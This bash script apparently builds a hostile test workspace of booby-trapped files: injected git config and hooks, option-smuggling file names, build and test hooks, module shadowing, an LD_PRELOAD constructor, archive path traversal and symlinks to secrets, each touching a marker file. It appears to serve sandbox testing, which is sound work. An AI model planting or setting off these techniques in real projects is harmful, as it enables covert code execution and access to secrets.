#!/bin/bash
# attack-setup.sh WS    (HOME MARK SECRET STATE PORT SOCK PID in the environment)
# Makes the hostile workspace.  Touches only WS.
set -e
WS=$1; mkdir -p "$WS"; cd "$WS"
export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
export GIT_AUTHOR_DATE="2026-01-05T10:00:00+00:00" GIT_COMMITTER_DATE="2026-01-05T10:00:00+00:00"
C='CANARY-7f3a'
repo() { # repo DIR: a repository with two commits and a branch "side" that conflicts in c.txt
  if [ -d base-repo ]; then cp -r base-repo "$1"; return; fi
  mkdir -p base-repo; ( cd base-repo; git init -q --template= -b main .; mkdir -p .git/hooks .git/info; printf '[user]\n\tname = T\n\temail = t@example.com\n[gc]\n\tauto = 0\n' >> .git/config
    printf 'one\n' > c.txt; printf 'bin\n' > p.dat; git add .; git commit -qm one
    git branch side; printf 'two\n' > c.txt; git commit -qam two
    git checkout -q side; printf 'three\n' > c.txt; git commit -qam three; git checkout -q main ); cp -r base-repo "$1"; }

git init -q -b main .
git config user.name T; git config user.email t@example.com; git config gc.auto 0
printf 'alpha\nbeta\ngamma\nfoo\n' > a.txt
printf 'alpha\ndelta\n' > b.txt
printf '3\n1\n2\n' > nums.txt
printf '{"name": "x", "n": 1}\n' > data.json
printf '.env\nbuild/\n' > .gitignore
printf 'PAYMENT_API_KEY=%s\n' "$C" > .env
mkdir -p src sub/deep bin build tests lib hooks tmpl/hooks glob1 glob2 glob3
printf 'print("hello")\n' > src/app.py
printf '#!/bin/sh\ntouch %s/x\n' "$MARK" > evil.sh; chmod +x evil.sh
cp evil.sh bin/ls; cp evil.sh bin/git; cp evil.sh bin/evil; cp evil.sh bin/python3; cp evil.sh bin/cc; cp evil.sh bin/git-hello
cp evil.sh hooks/pre-commit; cp evil.sh hooks/post-checkout; cp evil.sh hooks/post-index-change; cp evil.sh tmpl/hooks/post-checkout
ln -s "$MARK" link-mark; ln -s "$MARK/keep.txt" link-file; ln -s "$SECRET" link-secret; ln -s .env link-env; ln -s "$HOME" link-home; ln -s .. sub/up; ln -s ../.git sub/g; ln -s ../.git/hooks sub/hk

# files whose names become options
printf 'x\n' > glob1/a.txt; : > "glob1/--checkpoint=1"; cp evil.sh glob1/evil.sh; : > "glob1/--checkpoint-action=exec=sh evil.sh"
: > "glob2/-fprint"; ln -s "$MARK/x" glob2/out
printf 'w %s/x\n' "$MARK" > glob3/s.sed; : > "glob3/-fs.sed"; printf 'b\n' > glob3/in.txt

# make, npm, go, python, perl
cat > Makefile <<E
X := \$(shell touch $MARK/x)
all:
	@echo built
test:
	@echo tested
E
mkdir -p mk; cat > mk/Makefile <<E
.PHONY: test clean
test:
	@touch $MARK/x; echo tests ok
clean:
	@rm -f $MARK/keep.txt
E
mkdir -p mk2; printf 'include inc.mk\nall:\n\t@echo ok\n' > mk2/GNUmakefile; printf 'inc.mk:\n\ttouch %s/x; echo "Y=1" > inc.mk\n' "$MARK" >> mk2/GNUmakefile
mkdir -p js/test; cat > js/package.json <<E
{"name": "js", "version": "1.0.0", "private": true,
 "scripts": {"pretest": "touch $MARK/x", "test": "echo tested", "prepare": "touch $MARK/x", "build": "node build.js", "preversion": "touch $MARK/x"}}
E
printf 'require("fs").writeFileSync("%s/x", "x");\n' "$MARK" > js/evil.js; cp js/evil.js js/build.js
printf 'require("fs").writeFileSync("%s/x", "x"); require("node:test")("t", () => {});\n' "$MARK" > js/test/a.test.js
mkdir -p gomod/gen; cat > gomod/go.mod <<E
module example.com/evil

go 1.21
E
cat > gomod/main.go <<E
package main

import "os"

//go:generate touch $MARK/x

func main() {
	if err := os.WriteFile("$MARK/x", []byte("x"), 0o644); err != nil {
		println(err.Error())
	}
}
E
cat > gomod/main_test.go <<E
package main

import (
	"os"
	"testing"
)

func TestMain(m *testing.M) {
	main()
	os.Exit(m.Run())
}

func TestNothing(t *testing.T) {}
E
printf 'import os\nopen("%s/x", "w").close()\n' "$MARK" > lib/sitecustomize.py
printf 'open("%s/x", "w").close()\n' "$MARK" > lib/json.py
printf 'open("%s/x", "w").close()\n' "$MARK" > conftest.py
: > tests/__init__.py
cat > tests/test_a.py <<E
import unittest
def setUpModule():
    open("$MARK/x", "w").close()
class T(unittest.TestCase):
    def test_a(self): pass
E
mkdir -p pypkg; printf 'open("%s/x", "w").close()\nfrom setuptools import setup\nsetup(name="evil", version="1", py_modules=[])\n' "$MARK" > pypkg/setup.py
mkdir -p plib; printf 'package Evil; open(my $f, ">", "%s/x"); 1;\n' "$MARK" > plib/Evil.pm; cp plib/Evil.pm plib/strict.pm
printf 'local f=1\n:!touch %s/x\n:q!\n' "$MARK" > s.vim
printf '\n# vim: set modeline :\n' >> src/app.py

# a C library for preloading
cat > evil.c <<E
#include <fcntl.h>
__attribute__((constructor)) static void c(void) { open("$MARK/x", O_CREAT|O_WRONLY, 0644); }
int plugin_is_GPL_compatible; int plugin_init(void *a, void *b) { return 0; }
E
# archives that leave their directory
python3 - <<'E'
import tarfile, zipfile, io, os
mark = os.environ["MARK"]
def add(t, name, data=b"x\n", link=None):
    i = tarfile.TarInfo(name)
    if link: i.type = tarfile.SYMTYPE; i.linkname = link; t.addfile(i)
    else: i.size = len(data); t.addfile(i, io.BytesIO(data))
with tarfile.open("abs.tar", "w") as t: add(t, mark + "/x")
with tarfile.open("dots.tar", "w") as t: add(t, os.path.relpath(mark, os.getcwd()) + "/x")
with tarfile.open("links.tar", "w") as t:
    add(t, "d", link=mark); add(t, "d/x")
with tarfile.open("hook.tar", "w") as t: add(t, ".git/hooks/pre-commit", b"#!/bin/sh\ntouch %s/x\n" % mark.encode())
with zipfile.ZipFile("dots.zip", "w") as z: z.writestr(os.path.relpath(mark, os.getcwd()) + "/x", "x")
rel = os.path.relpath(mark, os.getcwd())
open("up.patch", "w").write(f"--- /dev/null\n+++ {rel}/x\n@@ -0,0 +1 @@\n+x\n")
open("hook.patch", "w").write("--- /dev/null\n+++ .git/hooks/pre-commit\n@@ -0,0 +1 @@\n+#!/bin/sh\n")
E
# configuration files
printf 'url = "http://127.0.0.1:%s/k"\n' "$PORT" > curl.cfg
printf 'output = "%s/x"\nurl = "file://%s/a.txt"\n' "$MARK" "$WS" > curl-out.cfg
printf '[alias]\n\tst = !touch %s/x\n[core]\n\tfsmonitor = touch %s/x; false\n[user]\n\tname = T\n\temail = t@example.com\n' "$MARK" "$MARK" > evil.gitconfig
printf 'Host *\n  ProxyCommand touch %s/x\n' "$MARK" > ssh.cfg
printf -- '--sort=yes\n-o %s/x\n' "$MARK" > ctags.opt
printf 'def pre():\n    pass\n' > gdbx.py; printf 'shell touch %s/x\n' "$MARK" > gdb.cmd; printf 'shell touch %s/x\n' "$MARK" > .gdbinit
printf '!touch %s/x\n' "$MARK" > ed.cmd
printf 'touch %s/x\n' "$MARK" > cmds.txt

git add -A 2>/dev/null; git commit -qm "hostile start"

# repositories with hostile configuration
repo r-fsmon;   git -C r-fsmon config core.fsmonitor "touch $MARK/x; false"
repo r-textconv; ( cd r-textconv; printf '*.dat diff=bin\n' > .gitattributes; git config diff.bin.textconv "touch $MARK/x; cat"; git add .; git commit -qm attr; printf 'changed\n' > p.dat )
repo r-extdiff; ( cd r-extdiff; printf 'changed\n' > c.txt; git config diff.external "touch $MARK/x; true" )
repo r-drvdiff; ( cd r-drvdiff; printf '*.txt diff=foo\n' > .gitattributes; git add .; git commit -qm attr; git config diff.foo.command "touch $MARK/x; true"; printf 'changed\n' > c.txt )
repo r-filter;  ( cd r-filter; printf '*.txt filter=f\n' > .gitattributes; git add .; git commit -qm attr; git config filter.f.clean "touch $MARK/x; cat"; git config filter.f.smudge "touch $MARK/x; cat"; printf 'zwo\n' > c.txt )
repo r-hooks;   ( cd r-hooks; for h in pre-commit post-checkout post-commit post-merge pre-rebase reference-transaction post-index-change pre-push applypatch-msg prepare-commit-msg; do printf '#!/bin/sh\ntouch %s/x\n' "$MARK" > .git/hooks/$h; chmod +x .git/hooks/$h; done )
repo r-hookspath; ( cd r-hookspath; mkdir h; cp ../evil.sh h/post-checkout; git config core.hooksPath h )
repo r-alias;   git -C r-alias config alias.st "!touch $MARK/x"
repo r-ssh;     ( cd r-ssh; git remote add origin ssh://h.invalid/x; git config core.sshCommand "touch $MARK/x; false" )
repo r-merge;   ( cd r-merge; printf '*.txt merge=m\n' > .gitattributes; git add .; git commit -qm attr; git config merge.m.driver "touch $MARK/x; true" )
repo r-include; ( cd r-include; git config include.path "$WS/evil.gitconfig" )
repo r-upload;  ( cd r-upload; git remote add origin .; git config remote.origin.uploadpack "touch $MARK/x; git-upload-pack" )
repo r-ext;     ( cd r-ext; git config protocol.ext.allow always; git remote add origin "ext::sh -c touch% $MARK/x" )
repo r-worktree; ( cd r-worktree; git config core.worktree "$MARK" )
repo r-gpg;     ( cd r-gpg; git config gpg.program "$WS/evil.sh"; git config commit.gpgSign true )
repo r-editor;  ( cd r-editor; git config core.editor "touch $MARK/x; true" )
# a plain directory that git takes for a repository
repo emb-src; mkdir emb; cp -r emb-src/.git/. emb/; rm -rf emb-src; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = "touch %s/x; false"\n' "$MARK" > emb/config
# a .git file that leads to another repository
mkdir gf; printf 'gitdir: ../r-fsmon/.git\n' > gf/.git; printf 'one\n' > gf/c.txt
rm -rf base-repo
